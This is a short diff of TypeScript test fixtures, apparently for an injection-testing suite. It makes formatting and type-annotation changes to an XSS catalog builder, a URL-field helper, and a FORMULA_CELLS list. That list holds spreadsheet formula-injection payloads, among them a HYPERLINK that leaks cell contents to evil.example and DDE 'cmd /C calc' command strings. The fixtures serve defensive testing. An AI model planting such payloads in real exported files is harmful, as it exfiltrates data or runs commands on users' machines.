@@ -224,7 +224,7 @@ export function xssCatalog(): Record<string, unknown> {
     evidence: [{ label: p(i + 8), url: url(i) }],
     'x-note': p(i + 9),
   }));
-  const links = needs.flatMap((need, i) => [
+  const links: Record<string, unknown>[] = needs.flatMap((need, i) => [
     { id: `l-xss-jira-${i}`, need: need.id, jira: { issue: XSS_RECORDS.jira } },
     ...(['salesforce', 'hubspot', 'dynamics', 'zendesk'] as const).map((host) => ({
       id: `l-xss-${host}-${i}`,
@@ -273,7 +273,13 @@ export function catalogWithUrl(field: 'chat' | 'charter' | 'channel' | 'evidence
         ...(field === 'channel' ? { channels: [{ label: 'chat', url: value }] } : {}),
       },
     ],
-    needs: [{ id: 'n-a', title: 'Need', ...(field === 'evidence' ? { evidence: [{ label: 'e', url: value }] } : {}) }],
+    needs: [
+      {
+        id: 'n-a',
+        title: 'Need',
+        ...(field === 'evidence' ? { evidence: [{ label: 'e', url: value }] } : {}),
+      },
+    ],
     links: [],
     ...(field === 'site' ? { sites: { jira: [value] } } : {}),
   };
@@ -294,8 +300,8 @@ export function catalogWithUrl(field: 'chat' | 'charter' | 'channel' | 'evidence
 export const FORMULA_CELLS: readonly string[] = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
   "+cmd|' /C calc'!A0",
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
 ];
